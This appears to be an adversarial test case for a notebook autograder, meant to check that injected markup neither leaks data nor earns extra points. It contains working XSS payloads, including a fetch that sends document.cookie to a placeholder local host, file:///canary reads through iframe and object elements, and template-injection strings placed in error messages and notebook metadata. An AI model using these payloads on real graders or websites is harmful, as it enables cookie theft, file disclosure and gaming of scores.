# attack: writes scripts, forms and links with the grader's markup into text, outputs, names and metadata
# class: leak
# base: stub
# expect: no more points than base
# fast: yes
from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('http://127.0.0.1:@TCP@/@NAME@' + document.cookie)</script><img src=x onerror=alert(1)>"))
display(Javascript("fetch('http://127.0.0.1:@TCP@/@NAME@')"))
display(HTML("<iframe src='file:///@COURSE@/canary.txt'></iframe><object data='@COURSE@/canary.txt'></object>"))
def mse_loss(y_hat, y):
    raise ValueError("</pre><script>alert(1)</script>{{ config }} {% include '@COURSE@/canary.txt' %}")
# --- build:
notebook["metadata"]["title"] = "<script>alert(1)</script>"
notebook["cells"].append({"cell_type": "markdown", "id": "html", "metadata": {"name": "<script>"},
    "source": "<script src='http://127.0.0.1:@TCP@/@NAME@'></script> {% include '@COURSE@/canary.txt' %} {{ self }}\n\n$\\require{html}\\href{javascript:alert(1)}{x}$"})
